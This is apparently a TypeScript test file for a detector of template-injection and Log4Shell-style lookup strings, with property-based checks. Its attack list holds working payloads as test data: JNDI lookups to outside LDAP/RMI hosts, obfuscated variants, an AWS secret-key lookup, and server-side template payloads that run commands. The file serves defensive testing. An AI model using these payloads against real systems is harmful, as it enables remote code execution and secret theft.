import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { detectTemplate } from './detect-template.ts';
import { resolveLookups } from './resolve-lookups.ts';

const ATTACKS: readonly (readonly [value: string, context: string])[] = [
  ['${jndi:ldap://198.51.100.7/a}', 'lookup'],
  ['${${lower:j}${upper:n}di:ldap://x/a}', 'lookup'],
  ['${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', 'lookup'],
  ['${${env:NONE:-j}ndi${env:NONE:-:}ldap://x/a}', 'lookup'],
  ['%24%7Bjndi:dns://x%7D', 'lookup'],
  ['x${env:AWS_SECRET_ACCESS_KEY}', 'lookup'],
  ['{{7*7}}', 'arithmetic'],
  ["{{''}}", 'expression'],
  ['{{ 5 > 3 }}', 'expression'],
  ['${.locals}', 'expression'],
  ['{{7|abs}}', 'expression'],
  ['{{x.__proto__}}', 'expression'],
  ['{{$x := "a"}}{{$x}}', 'expression'],
  ["{% set x = 'a' %}", 'expression'],
  ["{{7*'7'}}", 'arithmetic'],
  ['${7*7}', 'arithmetic'],
  ['(#context=#root.getClass())', 'expression'],
  ['${(835)+(832)}', 'arithmetic'],
  ['${9999218 9999734}', 'arithmetic'],
  ['zj{%=2374*7843%}zj', 'statement'],
  ['dfb{{"abc"|title}}xca', 'expression'],
  ['dfb{@98991*97996}xca', 'expression'],
  ['#{ 7 * 7 }', 'arithmetic'],
  ['<%= 7 * 7 %>', 'arithmetic'],
  ['@(1+2)', 'arithmetic'],
  ["{{''.__class__.__mro__[1].__subclasses__()}}", 'expression'],
  ['{{ config.items() }}', 'expression'],
  ["{{request['application']}}", 'expression'],
  ["{{['id']|filter('system')}}", 'expression'],
  ["{{_self.env.registerUndefinedFilterCallback('exec')}}", 'expression'],
  ["{{constructor.constructor('alert(1)')()}}", 'expression'],
  ["${T(java.lang.Runtime).getRuntime().exec('id')}", 'expression'],
  ["%{(#_memberAccess['allowStaticMethodAccess']=true)}", 'expression'],
  ['<#assign ex="freemarker.template.utility.Execute"?new()> ${ex("id")}', 'statement'],
  ["<%= system('id') %>", 'expression'],
  ['{% import os %}', 'statement'],
  ["{% for c in ''.__class__.__base__.__subclasses__() %}", 'statement'],
  ['(#a=@java.lang.Runtime@getRuntime())', 'expression'],
  ["#set($x = '')", 'expression'],
  ["{dede:field name='source' runphp='yes'}phpinfo();{/dede:field}", 'expression'],
];

const BENIGN: readonly string[] = [
  "{{ 'HELLO' | translate }}",
  '${{ github.ref }}',
  '[["a","b"],[1,2]]',
  '',
  'Hello {{ name }}!',
  'Dear {{user.firstName}}, your order {{ order.id }} is ready',
  '{"a":{"b":{}}}',
  'const text = `${user.name} has ${count} items`;',
  'font-size: ${size}px',
  'if (a) { return b; }',
  '{% if user %}Hello{% endif %}',
  '<% title %>',
  'a { color: #fff; } b { margin: 0 }',
  'Price: ${price}',
  'f(x) = {x | x > 0}',
  '[[Main Page]] and [[File:a.png]]',
  'me@(work)',
  'echo $HOME && echo ${HOME}',
  '#include <stdio.h>',
  'C# and F# {both}',
  '{{ t("welcome") }}',
  '{{#each items}}{{this}}{{/each}}',
  'The set {1, 2, 3} has 3*3 relations',
  '中文 {{ 姓名 }}',
];

describe('detectTemplate', () => {
  for (const [value, context] of ATTACKS) {
    test(`finds ${JSON.stringify(value)}`, () => {
      assert.equal(detectTemplate(value)?.context, context);
    });
  }
  for (const value of BENIGN) {
    test(`lets ${JSON.stringify(value)} pass`, () => {
      assert.equal(detectTemplate(value), null);
    });
  }

  test('lookups that only disguise letters resolve to them', () => {
    assert.equal(resolveLookups('${${lower:J}n${upper:d}${x:-i}:a}'), '${jnDi:a}');
    assert.equal(resolveLookups('${a'), '${a');
  });

  test('any text: never throws, and evidence stays inside the text', () => {
    const pieces = fc.constantFrom(
      '{{',
      '}}',
      '${',
      '}',
      '<%',
      '%>',
      '{%',
      '%}',
      '7*7',
      'jndi:',
      '#',
      '@(',
      'x',
      ' ',
    );
    const texts = fc.oneof(
      fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join('')),
      fc.string({ unit: 'binary', maxLength: 200 }),
    );
    fc.assert(
      fc.property(texts, (text) => {
        const evidence = detectTemplate(text);
        if (evidence === null) return;
        assert.ok(evidence.start >= 0 && evidence.start <= evidence.end);
      }),
      { numRuns: 3000 },
    );
  });
});
